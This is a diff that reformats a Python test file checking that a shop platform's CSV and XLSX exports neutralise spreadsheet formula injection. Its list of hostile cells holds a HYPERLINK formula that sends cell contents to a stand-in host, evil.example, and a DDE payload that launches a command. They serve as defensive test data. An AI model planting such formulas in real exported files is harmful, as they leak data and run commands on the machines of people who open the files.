@@ -31,8 +31,14 @@ from dianpu.core.tables import (
 )
 
 ROOT = Path(__file__).resolve().parents[2] / "dianpu"
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 # Every module that writes a CSV or XLSX, and the export(s) it serves. A new writer must be added
 # here (and to the tests below) and use dianpu.core.tables' helpers.
@@ -44,8 +50,10 @@ WRITERS = {
     "promotions/console/views.py": "coupon batch codes (CSV)",
 }
 # Writers of files that are *read* by dianpu, never handed to a person's spreadsheet.
-INPUT_WRITERS = {"system/demo/operations.py": "the Shopify orders file the demo imports",
-                 "system/demo/channels.py": "the Taobao goods and orders files the demo imports"}
+INPUT_WRITERS = {
+    "system/demo/operations.py": "the Shopify orders file the demo imports",
+    "system/demo/channels.py": "the Taobao goods and orders files the demo imports",
+}
 HELPERS = ("csv_value", "neutralise_row", "neutralise_cell", "xlsx_value")
 WRITER_PATTERN = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter")
 
@@ -96,11 +104,26 @@ def assert_neutralised(rows, *expected: str):
 
 # --- the helper ------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("value, written", [
-    ("=1+1", "'=1+1"), ("+1", "+1"), ("-12.50", "-12.50"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"), ("纯棉T恤", "纯棉T恤"), ("", ""), ("a=b", "a=b"),
-    (Decimal("-3.20"), Decimal("-3.20")), (-5, -5), (None, None),
-])
+
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "+1"),
+        ("-12.50", "-12.50"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'=1", "''=1"),
+        ("纯棉T恤", "纯棉T恤"),
+        ("", ""),
+        ("a=b", "a=b"),
+        (Decimal("-3.20"), Decimal("-3.20")),
+        (-5, -5),
+        (None, None),
+    ],
+)
 def test_a_cell_is_neutralised_the_owasp_way_and_numbers_stay_numbers(value, written):
     assert neutralise_cell(value) == written
     if isinstance(value, str):
@@ -109,8 +132,12 @@ def test_a_cell_is_neutralised_the_owasp_way_and_numbers_stay_numbers(value, wri
 
 def hostile_table() -> Table:
     rows = [{"name": text, "amount": Decimal("-3.20"), "count": -5} for text in HOSTILE]
-    return Table("t", "表", [Column("name", "名称"), Column("amount", "金额", numeric=True),
-                             Column("count", "数量", numeric=True)], rows)
+    return Table(
+        "t",
+        "表",
+        [Column("name", "名称"), Column("amount", "金额", numeric=True), Column("count", "数量", numeric=True)],
+        rows,
+    )
 
 
 def test_console_tables_analytics_exports_and_reports_write_text_not_formulas():
@@ -138,6 +165,7 @@ def test_the_product_file_writers_write_text_not_formulas():
 
 
 # --- end to end, through the pages, the API and the e-mail --------------------------------------------
+
 
 @pytest.fixture
 def hostile_shop(db):
@@ -207,7 +235,7 @@ def test_the_e_mailed_inventory_sheet_and_the_report_attachments_write_text_not_
     warehouse.email = "wh@example.com"
     warehouse.save()
     assert send_daily_sheet() == 1
-    (_name, content, _type), = mailoutbox[-1].attachments
+    ((_name, content, _type),) = mailoutbox[-1].attachments
     assert_neutralised(xlsx_cells(content), HOSTILE[0])
     for report in ensure_reports(send=False):
         xlsx_cells(bytes(report.xlsx))  # no formula anywhere in any report
